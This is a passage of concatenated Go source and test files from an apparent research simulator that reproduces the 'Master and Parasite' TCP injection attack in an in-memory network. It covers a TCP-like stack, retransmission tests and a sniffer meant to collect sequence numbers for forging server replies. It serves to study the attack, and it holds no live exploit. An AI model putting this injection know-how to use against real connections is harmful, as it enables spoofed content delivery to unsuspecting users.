	// The paper's master taps the WiFi at the access point: frames the
	// distant addressee loses are still observable mid-air.
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	seg.SetLinkProfile(LinkProfile{Name: "t", Loss: 1.0, Seed: 1})
	seg.MustAttach("10.0.0.1", 0, func(time.Duration, Packet) {})
	src := seg.MustAttach("10.0.0.2", 0, nil)
	tapped := 0
	seg.AttachTap(0, func(_ time.Duration, p Packet) { tapped++ })
	for i := 0; i < 5; i++ {
		src.Send(Packet{Dst: "10.0.0.1", Proto: ProtoRaw, Payload: []byte("x")})
	}
	n.Run(0)
	if tapped != 5 {
		t.Fatalf("tap saw %d frames, want 5", tapped)
	}
	if n.Delivered() != 0 {
		t.Fatalf("addressee delivered = %d on a 100%%-loss link", n.Delivered())
	}
	if acq, rel := n.FrameStats(); acq != rel {
		t.Fatalf("frame pool leaked: acquired=%d released=%d", acq, rel)
	}
}

func TestDuplicateDeliversTwiceAndIsTagged(t *testing.T) {
	p := LinkProfile{Name: "t", Duplicate: 1.0, Seed: 1}
	stream, n, seg := lossyExchange(t, p, 4, true)
	if n.Delivered() != 8 {
		t.Fatalf("delivered = %d, want 8 (every frame twice)", n.Delivered())
	}
	if seg.Duplicated() != 4 {
		t.Fatalf("Duplicated() = %d, want 4", seg.Duplicated())
	}
	dups := 0
	for _, s := range stream {
		if strings.HasPrefix(s, "dup ") {
			dups++
		}
	}
	if dups != 4 {
		t.Fatalf("wire stream has %d dup events, want 4:\n%s", dups, strings.Join(stream, "\n"))
	}
}

func TestBandwidthSerializesBackToBackSends(t *testing.T) {
	// 1000 B/s: a 100-byte frame occupies the wire for 100ms. Two
	// back-to-back sends must arrive 100ms apart, not together.
	n := New()
	seg := n.MustSegment("slow", time.Millisecond)
	seg.SetLinkProfile(LinkProfile{Name: "t", Bandwidth: 1000})
	var at []time.Duration
	seg.MustAttach("rx", 0, func(now time.Duration, _ Packet) { at = append(at, now) })
	src := seg.MustAttach("tx", 0, nil)
	payload := make([]byte, 100)
	src.Send(Packet{Dst: "rx", Proto: ProtoRaw, Payload: payload})
	src.Send(Packet{Dst: "rx", Proto: ProtoRaw, Payload: payload})
	n.Run(0)
	if len(at) != 2 {
		t.Fatalf("delivered %d frames, want 2", len(at))
	}
	gap := at[1] - at[0]
	if gap != 100*time.Millisecond {
		t.Fatalf("serialization gap = %v, want 100ms", gap)
	}
}

func TestReorderLetsLaterFramesOvertake(t *testing.T) {
	// With a 50% reorder chance and a hold-back far larger than the
	// inter-send gap, some frame must be overtaken within 32 sends.
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	seg.SetLinkProfile(LinkProfile{Name: "t", Reorder: 0.5, ReorderDelay: 50 * time.Millisecond, Seed: 7})
	var order []int
	seg.MustAttach("rx", 0, func(_ time.Duration, p Packet) {
		order = append(order, int(p.Payload[0]))
	})
	src := seg.MustAttach("tx", 0, nil)
	for i := 0; i < 32; i++ {
		i := i
		src.SendPayload("rx", ProtoRaw, func(b []byte) []byte { return append(b, byte(i)) })
	}
	n.Run(0)
	if len(order) != 32 {
		t.Fatalf("delivered %d frames, want 32", len(order))
	}
	inversions := 0
	for i := 1; i < len(order); i++ {
		if order[i] < order[i-1] {
			inversions++
		}
	}
	if inversions == 0 {
		t.Fatalf("no reordering observed: %v", order)
	}
}

func TestFrameStatsBalancedUnderFaults(t *testing.T) {
	p := LinkProfile{Name: "t", Loss: 0.25, Duplicate: 0.25, Jitter: time.Millisecond, Seed: 9}
	_, n, _ := lossyExchange(t, p, 256, true)
	acq, rel := n.FrameStats()
	if acq == 0 || acq != rel {
		t.Fatalf("frame pool unbalanced after faulted run: acquired=%d released=%d", acq, rel)
	}
}

func TestProfileByName(t *testing.T) {
	for _, name := range []string{"clean", "coffee-shop-wifi", "congested", "mobile-handoff"} {
		p, err := ProfileByName(name)
		if err != nil || p.Name != name {
			t.Fatalf("ProfileByName(%q) = %+v, %v", name, p, err)
		}
	}
	if _, err := ProfileByName("dial-up"); err == nil || !strings.Contains(err.Error(), "coffee-shop-wifi") {
		t.Fatalf("unknown profile error should list presets, got %v", err)
	}
	if clean, _ := ProfileByName("clean"); !clean.Clean() {
		t.Fatal("the clean preset must report Clean()")
	}
	if cong, _ := ProfileByName("congested"); cong.Clean() {
		t.Fatal("the congested preset must not report Clean()")
	}
}
