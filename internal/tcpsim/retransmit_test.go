package tcpsim

import (
	"bytes"
	"fmt"
	"testing"
	"time"

	"masterparasite/internal/netsim"
)

// faultyLab is newLab with a link profile on the shared segment and
// retransmission enabled on both stacks.
func faultyLab(t *testing.T, p netsim.LinkProfile, opts ...StackOption) *lab {
	t.Helper()
	l := newLab(t, append([]StackOption{WithRetransmit()}, opts...)...)
	l.seg.SetLinkProfile(p)
	return l
}

// transfer sends payload client→server over the lab and returns the
// bytes the server delivered plus the client conn.
func transfer(t *testing.T, l *lab, payload []byte) ([]byte, *Conn) {
	t.Helper()
	var got []byte
	if err := l.server.Listen(80, func(c *Conn) {
		c.OnData(func(b []byte) { got = append(got, b...) })
	}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	conn, err := l.client.Dial("server", 80, func(c *Conn) {
		if _, err := c.Write(payload); err != nil {
			t.Errorf("client write: %v", err)
		}
	})
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0)
	return got, conn
}

func TestRetransmitRecoversFromLoss(t *testing.T) {
	p := netsim.LinkProfile{Name: "lossy", Loss: 0.15, Seed: 3}
	l := faultyLab(t, p, WithMSS(512))
	payload := bytes.Repeat([]byte("abcdefgh"), 4096) // 32 KiB
	got, conn := transfer(t, l, payload)
	if !bytes.Equal(got, payload) {
		t.Fatalf("server got %d bytes, want %d — stream corrupted under loss", len(got), len(payload))
	}
	if l.seg.Lost() == 0 {
		t.Fatal("link lost nothing at 15% loss; test is vacuous")
	}
	if conn.Stats().Retransmits == 0 {
		t.Fatal("transfer completed without a single retransmission at 15% loss")
	}
}

func TestHandshakeSurvivesHeavyLoss(t *testing.T) {
	// 50% loss: SYN, SYN-ACK, or the final ACK will be eaten within a
	// few connections; the handshake machinery must recover all cases.
	p := netsim.LinkProfile{Name: "harsh", Loss: 0.5, Seed: 11}
	l := faultyLab(t, p)
	got, conn := transfer(t, l, []byte("ping"))
	if string(got) != "ping" {
		t.Fatalf("server got %q, want ping", got)
	}
	if conn.State() != StateEstablished {
		t.Fatalf("client state = %v, want ESTABLISHED", conn.State())
	}
}

func TestFastRetransmitFiresOnDupAcks(t *testing.T) {
	// Modest loss over a many-segment burst: segments behind a hole
	// arrive out of order, the receiver emits duplicate ACKs, and the
	// sender must fast-retransmit before the RTO fires at least once.
	p := netsim.LinkProfile{Name: "burst", Loss: 0.08, Seed: 5}
	l := faultyLab(t, p, WithMSS(256))
	payload := bytes.Repeat([]byte("0123456789abcdef"), 4096) // 64 KiB
	got, conn := transfer(t, l, payload)
	if !bytes.Equal(got, payload) {
		t.Fatalf("server got %d bytes, want %d", len(got), len(payload))
	}
	if conn.Stats().FastRetransmits == 0 {
		t.Fatalf("no fast retransmits over a %d-segment burst at 8%% loss (stats %+v)",
			len(payload)/256, conn.Stats())
	}
}

func TestGiveUpAfterRetryCap(t *testing.T) {
	// RTO above the lab's ~12ms RTT so the clean handshake never fires a
	// spurious retransmission and the count below is exactly the cap.
	l := newLab(t, WithRetransmit(), WithRTO(30*time.Millisecond))
	if err := l.server.Listen(80, func(c *Conn) {}); err != nil {
		t.Fatalf("Listen: %v", err)
	}
	conn, err := l.client.Dial("server", 80, nil)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	l.net.Run(0) // establish cleanly
	if conn.State() != StateEstablished {
		t.Fatalf("state = %v, want ESTABLISHED", conn.State())
	}
	// The server host leaves the network: every retransmission is wasted
	// and the client must eventually give up and tear down.
	closed := false
	conn.OnClose(func() { closed = true })
	l.server.ifc.SetReceiveDrop(true)
	if _, err := conn.Write([]byte("into the void")); err != nil {
		t.Fatalf("Write: %v", err)
	}
	l.net.Run(0)
	if conn.State() != StateClosed || !closed {
		t.Fatalf("state = %v closed=%v after retry cap, want CLOSED", conn.State(), closed)
	}
	if got := conn.Stats().Timeouts; got != DefaultMaxRetries {
		t.Fatalf("Timeouts = %d, want %d (cap)", got, DefaultMaxRetries)
	}
}

func TestSequenceWraparoundUnderRetransmission(t *testing.T) {
	// Both ISNs start just below 2^32 so the stream crosses the modular
	// boundary mid-transfer, on a lossy link for good measure.
	p := netsim.LinkProfile{Name: "wrap", Loss: 0.1, Seed: 17}
	l := faultyLab(t, p, WithMSS(512), WithISN(0xFFFFF000))
	payload := bytes.Repeat([]byte("wrap"), 4096) // 16 KiB >> 0x1000
	got, conn := transfer(t, l, payload)
	if !bytes.Equal(got, payload) {
		t.Fatalf("server got %d bytes, want %d across the seq wrap", len(got), len(payload))
	}
	// The raw sequence number must now be numerically tiny: the stream
	// crossed 2^32 and wrapped back around.
	if conn.SndNxt() >= 0x10000 {
		t.Fatalf("SndNxt = %#x: stream never crossed the wrap", conn.SndNxt())
	}
}

func TestRetransmitOnCleanWireIsByteIdentical(t *testing.T) {
	// Enabling the machinery on a perfect link must not change a single
	// wire event: RTO > RTT means timers only ever fire as no-ops.
	run := func(retransmit bool) []string {
		n := netsim.New()
		seg := n.MustSegment("wifi", time.Millisecond)
		cIfc := seg.MustAttach("client", 0, nil)
		sIfc := seg.MustAttach("server", 5*time.Millisecond, nil)
		opts := []StackOption{WithSeed(7), WithMSS(512)}
		if retransmit {
			opts = append(opts, WithRetransmit())
		}
		client := NewStack(n, cIfc, opts...)
		server := NewStack(n, sIfc, append([]StackOption{WithSeed(11), WithMSS(512)}, opts[2:]...)...)
		var stream []string
		n.SetWireTap(func(e netsim.WireEvent) {
			stream = append(stream, fmt.Sprintf("%s t=%d %s>%s %dB", e.Kind, e.Time, e.Src, e.Dst, len(e.Payload)))
		})
		payload := bytes.Repeat([]byte("x"), 4000)
		if err := server.Listen(80, func(c *Conn) {
			c.OnData(func(b []byte) {})
		}); err != nil {
			t.Fatalf("Listen: %v", err)
		}
		if _, err := client.Dial("server", 80, func(c *Conn) {
			if _, err := c.Write(payload); err != nil {
				t.Errorf("write: %v", err)
			}
			c.Close()
		}); err != nil {
			t.Fatalf("Dial: %v", err)
		}
		n.Run(0)
		return stream
	}
	without := run(false)
	with := run(true)
	if len(without) != len(with) {
		t.Fatalf("wire stream length changed: %d without vs %d with retransmit", len(without), len(with))
	}
	for i := range without {
		if without[i] != with[i] {
			t.Fatalf("wire event %d diverged:\nwithout: %s\nwith:    %s", i, without[i], with[i])
		}
	}
}
