package tcpsim

import (
	"errors"
	"fmt"
	"math/rand"
	"time"

	"masterparasite/internal/netsim"
)

// ReassemblyPolicy selects how overlapping segment data is resolved.
type ReassemblyPolicy int

// Reassembly policies. Real stacks behave as FirstWins for fully duplicate
// data, which is the property TCP injection relies on. LastWins exists for
// the ablation benchmark showing the attack would collapse without it.
const (
	FirstWins ReassemblyPolicy = iota + 1
	LastWins
)

// String names the policy.
func (p ReassemblyPolicy) String() string {
	switch p {
	case FirstWins:
		return "first-wins"
	case LastWins:
		return "last-wins"
	default:
		return "unknown"
	}
}

// State is a TCP connection state.
type State int

// Connection states (subset of RFC 793 sufficient for the simulation).
const (
	StateSynSent State = iota + 1
	StateSynReceived
	StateEstablished
	StateFinWait
	StateClosed
)

// String names the state.
func (s State) String() string {
	switch s {
	case StateSynSent:
		return "SYN_SENT"
	case StateSynReceived:
		return "SYN_RECEIVED"
	case StateEstablished:
		return "ESTABLISHED"
	case StateFinWait:
		return "FIN_WAIT"
	case StateClosed:
		return "CLOSED"
	default:
		return "UNKNOWN"
	}
}

// Defaults for stack tuning.
const (
	DefaultMSS    = 1460
	DefaultWindow = 65535
)

// StackOption configures a Stack.
type StackOption func(*Stack)

// WithReassembly sets the overlap resolution policy.
func WithReassembly(p ReassemblyPolicy) StackOption {
	return func(s *Stack) { s.policy = p }
}

// WithMSS sets the maximum segment payload size.
func WithMSS(mss int) StackOption {
	return func(s *Stack) {
		if mss > 0 {
			s.mss = mss
		}
	}
}

// WithSeed seeds ISN generation, keeping runs reproducible.
func WithSeed(seed int64) StackOption {
	return func(s *Stack) { s.rng = rand.New(rand.NewSource(seed)) }
}

// Stack is one host's transport layer bound to a netsim interface.
type Stack struct {
	net    *netsim.Network
	ifc    *netsim.Interface
	policy ReassemblyPolicy
	mss    int
	rng    *rand.Rand

	// Retransmission knobs (see retransmit.go). Off by default: the
	// perfect-wire experiments were recorded without it and their wire
	// bytes are pinned by golden and fingerprint tests.
	retransmit  bool
	rto         time.Duration
	maxRetries  int
	isnOverride *uint32

	listeners map[uint16]func(*Conn)
	conns     map[connKey]*Conn
	nextPort  uint16
}

type connKey struct {
	remoteAddr netsim.Addr
	remotePort uint16
	localPort  uint16
}

// NewStack layers a transport on the interface, replacing its receive
// handler.
func NewStack(network *netsim.Network, ifc *netsim.Interface, opts ...StackOption) *Stack {
	s := &Stack{
		net:        network,
		ifc:        ifc,
		policy:     FirstWins,
		mss:        DefaultMSS,
		rng:        rand.New(rand.NewSource(1)),
		rto:        DefaultRTO,
		maxRetries: DefaultMaxRetries,
		listeners:  make(map[uint16]func(*Conn)),
		conns:      make(map[connKey]*Conn),
		nextPort:   49152,
	}
	for _, opt := range opts {
		opt(s)
	}
	ifc.SetHandler(func(now time.Duration, pkt netsim.Packet) { s.receive(now, pkt) })
	return s
}

// Addr returns the stack's network address.
func (s *Stack) Addr() netsim.Addr { return s.ifc.Addr() }

// Policy returns the configured reassembly policy.
func (s *Stack) Policy() ReassemblyPolicy { return s.policy }

// ErrPortInUse reports a duplicate listener.
var ErrPortInUse = errors.New("tcpsim: port already listening")

// Listen registers an accept callback for inbound connections on port.
func (s *Stack) Listen(port uint16, accept func(*Conn)) error {
	if _, dup := s.listeners[port]; dup {
		return fmt.Errorf("%w: %d", ErrPortInUse, port)
	}
	s.listeners[port] = accept
	return nil
}

// Dial opens a connection to dst:dstPort. onConnect fires when the
// handshake completes. The returned Conn may be used to register data
// callbacks immediately.
func (s *Stack) Dial(dst netsim.Addr, dstPort uint16, onConnect func(*Conn)) (*Conn, error) {
	localPort := s.allocPort()
	key := connKey{remoteAddr: dst, remotePort: dstPort, localPort: localPort}
	if _, dup := s.conns[key]; dup {
		return nil, fmt.Errorf("tcpsim: connection %v exists", key)
	}
	c := &Conn{
		stack: s, key: key,
		state:     StateSynSent,
		sndNxt:    s.isn(),
		onConnect: onConnect,
	}
	c.iss = c.sndNxt
	c.sndUna = c.sndNxt
	s.conns[key] = c
	c.sendSegment(Segment{Flags: FlagSYN, Seq: c.sndNxt, Window: DefaultWindow})
	c.sndNxt = SeqAdd(c.sndNxt, 1) // SYN consumes one sequence number
	return c, nil
}

func (s *Stack) allocPort() uint16 {
	p := s.nextPort
	s.nextPort++
	if s.nextPort == 0 {
		s.nextPort = 49152
	}
	return p
}

func (s *Stack) isn() uint32 {
	if s.isnOverride != nil {
		return *s.isnOverride
	}
	return s.rng.Uint32()
}

func (s *Stack) receive(_ time.Duration, pkt netsim.Packet) {
	if pkt.Proto != netsim.ProtoTCP {
		return
	}
	seg, err := ParseSegment(pkt.Payload)
	if err != nil {
		return
	}
	key := connKey{remoteAddr: pkt.Src, remotePort: seg.SrcPort, localPort: seg.DstPort}
	if c, ok := s.conns[key]; ok {
		c.handle(seg)
		return
	}
	// New connection? Only a SYN to a listening port is admitted.
	if seg.Flags&FlagSYN != 0 && seg.Flags&FlagACK == 0 {
		accept, listening := s.listeners[seg.DstPort]
		if !listening {
			return
		}
		c := &Conn{
			stack: s, key: key,
			state:  StateSynReceived,
			sndNxt: s.isn(),
			rcvNxt: SeqAdd(seg.Seq, 1),
			accept: accept,
		}
		c.iss = c.sndNxt
		c.sndUna = c.sndNxt
		s.conns[key] = c
		c.sendSegment(Segment{
			Flags: FlagSYN | FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt,
			Window: DefaultWindow,
		})
		c.sndNxt = SeqAdd(c.sndNxt, 1)
	}
	// Anything else addressed to an unknown connection is silently
	// dropped — the injection attack depends on *guessing right*, and a
	// wrong 4-tuple gives the attacker nothing.
}

// ConnStats counts per-connection transport events; the injection
// experiments read DuplicateBytes to verify the benign response really was
// discarded.
type ConnStats struct {
	SegmentsIn      int
	SegmentsOut     int
	BytesDelivered  int
	DuplicateBytes  int // bytes discarded by first-wins overlap resolution
	OutOfWindow     int // segments rejected by the window check
	OverwrittenByte int // bytes replaced under last-wins (ablation)
	Retransmits     int // segments re-sent (timeout + fast retransmit)
	Timeouts        int // RTO expiries that actually retransmitted
	FastRetransmits int // retransmits triggered by duplicate ACKs
}

// Conn is one simulated TCP connection endpoint.
type Conn struct {
	stack *Stack
	key   connKey
	state State

	iss    uint32 // initial send sequence
	sndNxt uint32
	rcvNxt uint32

	// Out-of-order receive window: byte i of rcvWin (valid when
	// rcvHave[i]) is the payload byte at sequence rcvNxt+i. The arrays
	// are scratch reused across segments — in-order traffic never touches
	// them, and draining slides them down in place.
	rcvWin  []byte
	rcvHave []bool

	lastAck uint32

	// Retransmission state (active only when the stack enables it):
	// sndUna is the oldest unacknowledged sequence number, rtxQ the
	// outstanding sequence-consuming segments in send order. timerEpoch
	// invalidates scheduled RTO expiries (netsim events cannot be
	// cancelled, so stale epochs fire as no-ops).
	sndUna     uint32
	rtxQ       []rtxSeg
	rtoBackoff uint
	retries    int
	timerEpoch int
	dupAcks    int

	onConnect func(*Conn)
	accept    func(*Conn)
	onData    func([]byte)
	onClose   func()

	stats ConnStats
}

// LocalPort returns the local port number.
func (c *Conn) LocalPort() uint16 { return c.key.localPort }

// RemotePort returns the remote port number.
func (c *Conn) RemotePort() uint16 { return c.key.remotePort }

// RemoteAddr returns the peer address.
func (c *Conn) RemoteAddr() netsim.Addr { return c.key.remoteAddr }

// LocalAddr returns the local address.
func (c *Conn) LocalAddr() netsim.Addr { return c.stack.Addr() }

// State returns the connection state.
func (c *Conn) State() State { return c.state }

// Stats returns a copy of the connection counters.
func (c *Conn) Stats() ConnStats { return c.stats }

// OnData registers the delivery callback for in-order payload bytes.
func (c *Conn) OnData(fn func([]byte)) { c.onData = fn }

// OnClose registers a callback fired when the peer closes.
func (c *Conn) OnClose(fn func()) { c.onClose = fn }

// ErrClosed reports use of a closed connection.
var ErrClosed = errors.New("tcpsim: connection closed")

// Write queues data for transmission, splitting it into MSS-sized
// segments.
func (c *Conn) Write(data []byte) (int, error) {
	if c.state == StateClosed {
		return 0, ErrClosed
	}
	sent := 0
	for sent < len(data) {
		end := sent + c.stack.mss
		if end > len(data) {
			end = len(data)
		}
		chunk := data[sent:end]
		c.sendSegment(Segment{
			Flags: FlagACK | FlagPSH, Seq: c.sndNxt, Ack: c.rcvNxt,
			Window: DefaultWindow, Payload: chunk,
		})
		c.sndNxt = SeqAdd(c.sndNxt, len(chunk))
		sent = end
	}
	return sent, nil
}

// Close sends FIN and tears the connection down locally.
func (c *Conn) Close() error {
	if c.state == StateClosed {
		return nil
	}
	c.sendSegment(Segment{Flags: FlagFIN | FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
	c.sndNxt = SeqAdd(c.sndNxt, 1)
	c.state = StateFinWait
	return nil
}

func (c *Conn) teardown() {
	c.state = StateClosed
	delete(c.stack.conns, c.key)
	if c.onClose != nil {
		c.onClose()
	}
}

func (c *Conn) sendSegment(seg Segment) {
	if c.stack.retransmit {
		if n := seqConsumed(seg); n > 0 {
			c.track(seg, n)
		}
	}
	c.transmitSegment(seg)
}

// transmitSegment puts the segment on the wire without touching the
// retransmission queue — the path retransmits themselves take.
func (c *Conn) transmitSegment(seg Segment) {
	seg.SrcPort = c.key.localPort
	seg.DstPort = c.key.remotePort
	c.stats.SegmentsOut++
	// Marshal directly into the pooled netsim frame: exact size, single
	// append, no intermediate wire buffer.
	c.stack.ifc.SendPayload(c.key.remoteAddr, netsim.ProtoTCP,
		func(dst []byte) []byte { return seg.AppendMarshal(dst) })
}

func (c *Conn) handle(seg Segment) {
	c.stats.SegmentsIn++
	switch c.state {
	case StateSynSent:
		if seg.Flags&(FlagSYN|FlagACK) == FlagSYN|FlagACK && seg.Ack == c.sndNxt {
			c.rcvNxt = SeqAdd(seg.Seq, 1)
			c.state = StateEstablished
			if c.stack.retransmit {
				c.processAck(seg.Ack, false) // our SYN is acknowledged
			}
			c.sendSegment(Segment{Flags: FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
			if c.onConnect != nil {
				c.onConnect(c)
			}
		}
		return
	case StateSynReceived:
		if seg.Flags&FlagACK != 0 && seg.Ack == c.sndNxt {
			c.state = StateEstablished
			if c.stack.retransmit {
				c.processAck(seg.Ack, false) // our SYN-ACK is acknowledged
			}
			if c.accept != nil {
				c.accept(c)
			}
			// The ACK completing the handshake may carry data.
			if len(seg.Payload) > 0 {
				c.ingest(seg)
			}
		}
		return
	case StateClosed:
		return
	}

	// Established (or FIN_WAIT) path: the window check is the gate an
	// off-path attacker must pass — the eavesdropper passes it trivially
	// because it has seen the real sequence numbers.
	if c.stack.retransmit && seg.Flags&FlagSYN != 0 && seg.Flags&FlagACK != 0 {
		// A retransmitted SYN-ACK: our handshake ACK was lost. Re-ACK so
		// the peer leaves SYN_RECEIVED (a pure ACK provokes no reply, so
		// this cannot loop).
		c.sendSegment(Segment{Flags: FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
		return
	}
	if len(seg.Payload) > 0 {
		c.ingest(seg)
	}
	if seg.Flags&FlagACK != 0 {
		c.lastAck = seg.Ack
		if c.stack.retransmit {
			c.processAck(seg.Ack, len(seg.Payload) > 0)
		}
	}
	if seg.Flags&FlagFIN != 0 && SeqLEQ(seg.Seq, c.rcvNxt) {
		c.rcvNxt = SeqAdd(c.rcvNxt, 1)
		c.sendSegment(Segment{Flags: FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
		c.teardown()
	}
	if seg.Flags&FlagRST != 0 && InWindow(seg.Seq, c.rcvNxt, DefaultWindow) {
		c.teardown()
	}
}

// ingest applies the window check and overlap policy, then delivers any
// newly contiguous bytes. The delivered slice is only valid during the
// OnData callback: in-order payloads are handed through zero-copy from
// the wire frame, buffered ones from the connection's window scratch.
func (c *Conn) ingest(seg Segment) {
	endSeq := SeqAdd(seg.Seq, len(seg.Payload))
	d := SeqDiff(c.rcvNxt, seg.Seq) // segment start relative to rcvNxt
	switch {
	case d >= DefaultWindow || d < -2*DefaultWindow:
		// Too far in the future, or ancient beyond any plausible replay:
		// a blind attacker's guess lands here and is rejected.
		c.stats.OutOfWindow++
		return
	case d < 0 && SeqDiff(c.rcvNxt, endSeq) <= 0:
		// The segment ends at or before rcvNxt: every byte was already
		// delivered. This is the fate of the genuine server response that
		// loses the race against the injected one ("ignored benign
		// response", Fig. 1 and 2). Acknowledge and discard.
		c.stats.DuplicateBytes += len(seg.Payload)
		c.sendSegment(Segment{Flags: FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
		return
	}
	if d <= 0 && len(c.rcvHave) == 0 {
		// In-order fast path (possibly with an already-delivered prefix):
		// nothing is buffered, so the fresh suffix is contiguous at rcvNxt
		// and can be delivered without touching the window scratch.
		c.stats.DuplicateBytes += -d
		c.deliver(seg.Payload[-d:])
		return
	}
	for i, b := range seg.Payload {
		off := d + i // position relative to rcvNxt
		if off < 0 {
			// Already delivered to the application: the byte on the wire
			// now is discarded regardless of policy. This is why the
			// genuine response arriving after the injected one is
			// "ignored" in the paper's figures.
			c.stats.DuplicateBytes++
			continue
		}
		for len(c.rcvHave) <= off {
			c.rcvWin = append(c.rcvWin, 0)
			c.rcvHave = append(c.rcvHave, false)
		}
		if c.rcvHave[off] {
			switch c.stack.policy {
			case LastWins:
				c.rcvWin[off] = b
				c.stats.OverwrittenByte++
			default: // FirstWins
				c.stats.DuplicateBytes++
			}
			continue
		}
		c.rcvWin[off] = b
		c.rcvHave[off] = true
	}
	// Drain the contiguous prefix, then slide the scratch down in place.
	k := 0
	for k < len(c.rcvHave) && c.rcvHave[k] {
		k++
	}
	if k == 0 {
		if c.stack.retransmit {
			// Out-of-order data was buffered but the stream did not
			// advance: re-ACK the byte we are stuck on. The sender counts
			// these duplicate ACKs toward fast retransmit of the gap.
			c.sendSegment(Segment{Flags: FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
		}
		return
	}
	c.deliver(c.rcvWin[:k])
	rem := len(c.rcvHave) - k
	copy(c.rcvWin, c.rcvWin[k:])
	copy(c.rcvHave, c.rcvHave[k:])
	c.rcvWin = c.rcvWin[:rem]
	c.rcvHave = c.rcvHave[:rem]
}

// deliver acknowledges and hands a non-empty contiguous payload to the
// application callback.
func (c *Conn) deliver(data []byte) {
	if len(data) == 0 {
		return
	}
	c.rcvNxt = SeqAdd(c.rcvNxt, len(data))
	c.stats.BytesDelivered += len(data)
	c.sendSegment(Segment{Flags: FlagACK, Seq: c.sndNxt, Ack: c.rcvNxt, Window: DefaultWindow})
	if c.onData != nil {
		c.onData(data)
	}
}

// SndNxt exposes the next send sequence number (used by tests and by the
// message-flow renderer).
func (c *Conn) SndNxt() uint32 { return c.sndNxt }

// RcvNxt exposes the next expected receive sequence number.
func (c *Conn) RcvNxt() uint32 { return c.rcvNxt }
