// Package tcpsim implements a TCP-like transport on top of the netsim
// packet network. It reproduces the transport-layer properties that the
// Master and Parasite attack (§V) exploits:
//
//   - a segment is accepted only if its 4-tuple matches an existing
//     connection and its sequence number falls in the receive window, so an
//     eavesdropper who has seen the client's request can forge acceptable
//     server segments;
//   - reassembly is first-segment-wins: once bytes for a sequence range
//     have been received, later segments for the same range are discarded
//     as duplicates. The attacker's spoofed response therefore sticks and
//     the genuine server response is ignored ("ignored benign response" in
//     Fig. 1 and 2).
//
// The stack is callback-driven and runs entirely inside the netsim event
// loop, which keeps experiments deterministic.
package tcpsim

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// Flags is the TCP flag bit set.
type Flags uint8

// TCP control flags.
const (
	FlagSYN Flags = 1 << iota
	FlagACK
	FlagFIN
	FlagRST
	FlagPSH
)

// String renders flags in the conventional compact form, e.g. "SYN|ACK".
func (f Flags) String() string {
	names := []struct {
		bit  Flags
		name string
	}{
		{FlagSYN, "SYN"}, {FlagACK, "ACK"}, {FlagFIN, "FIN"},
		{FlagRST, "RST"}, {FlagPSH, "PSH"},
	}
	out := ""
	for _, n := range names {
		if f&n.bit == 0 {
			continue
		}
		if out != "" {
			out += "|"
		}
		out += n.name
	}
	if out == "" {
		return "none"
	}
	return out
}

// Segment is the wire unit of the simulated transport.
type Segment struct {
	SrcPort uint16
	DstPort uint16
	Seq     uint32
	Ack     uint32
	Flags   Flags
	Window  uint16
	Payload []byte
}

// headerLen is the fixed marshalled header size.
const headerLen = 16

// ErrShortSegment reports a payload too small to contain a header.
var ErrShortSegment = errors.New("tcpsim: short segment")

// Marshal encodes the segment into a fresh, exact-size byte slice.
func (s Segment) Marshal() []byte {
	return s.AppendMarshal(make([]byte, 0, headerLen+len(s.Payload)))
}

// AppendMarshal appends the segment's wire encoding to b and returns the
// result. This is the transmit fast path: the stack marshals straight
// into a pooled netsim frame buffer, so steady-state sends do not
// allocate.
func (s Segment) AppendMarshal(b []byte) []byte {
	b = append(b,
		byte(s.SrcPort>>8), byte(s.SrcPort),
		byte(s.DstPort>>8), byte(s.DstPort),
		byte(s.Seq>>24), byte(s.Seq>>16), byte(s.Seq>>8), byte(s.Seq),
		byte(s.Ack>>24), byte(s.Ack>>16), byte(s.Ack>>8), byte(s.Ack),
		byte(s.Flags),
		byte(s.Window>>8), byte(s.Window),
		0, // reserved
	)
	return append(b, s.Payload...)
}

// ParseSegment decodes a segment from wire bytes. The returned payload
// aliases b.
func ParseSegment(b []byte) (Segment, error) {
	if len(b) < headerLen {
		return Segment{}, fmt.Errorf("%w: %d bytes", ErrShortSegment, len(b))
	}
	return Segment{
		SrcPort: binary.BigEndian.Uint16(b[0:2]),
		DstPort: binary.BigEndian.Uint16(b[2:4]),
		Seq:     binary.BigEndian.Uint32(b[4:8]),
		Ack:     binary.BigEndian.Uint32(b[8:12]),
		Flags:   Flags(b[12]),
		Window:  binary.BigEndian.Uint16(b[13:15]),
		Payload: b[headerLen:],
	}, nil
}

// SeqLT reports whether sequence number a precedes b in modular 2^32
// arithmetic (RFC 793 comparison).
func SeqLT(a, b uint32) bool {
	return int32(a-b) < 0
}

// SeqLEQ reports whether a precedes or equals b in modular arithmetic.
func SeqLEQ(a, b uint32) bool {
	return a == b || SeqLT(a, b)
}

// SeqAdd advances a sequence number by n with wraparound.
func SeqAdd(seq uint32, n int) uint32 {
	return seq + uint32(int32(n))
}

// SeqDiff returns the modular distance from a to b (b-a), as an int.
func SeqDiff(a, b uint32) int {
	return int(int32(b - a))
}

// InWindow reports whether seq falls inside [lo, lo+size) modulo 2^32.
func InWindow(seq, lo uint32, size int) bool {
	d := SeqDiff(lo, seq)
	return d >= 0 && d < size
}
