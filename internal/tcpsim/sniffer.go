package tcpsim

import (
	"time"

	"masterparasite/internal/netsim"
)

// Observed is one TCP segment seen by an eavesdropper, together with the
// addressing needed to forge replies.
type Observed struct {
	Time time.Duration
	Src  netsim.Addr
	Dst  netsim.Addr
	Seg  Segment
}

// Sniffer parses every TCP frame on a segment through a promiscuous tap.
// It is the paper's master in its observation role (§III): "The master
// sees the TCP source port and the TCP sequence number in the segments
// sent by the client and hence can craft correct response segments
// impersonating the server."
type Sniffer struct {
	tap  *netsim.Tap
	onTC func(Observed)
}

// NewSniffer attaches a tap with the given proximity delay and invokes fn
// for every parsed TCP segment.
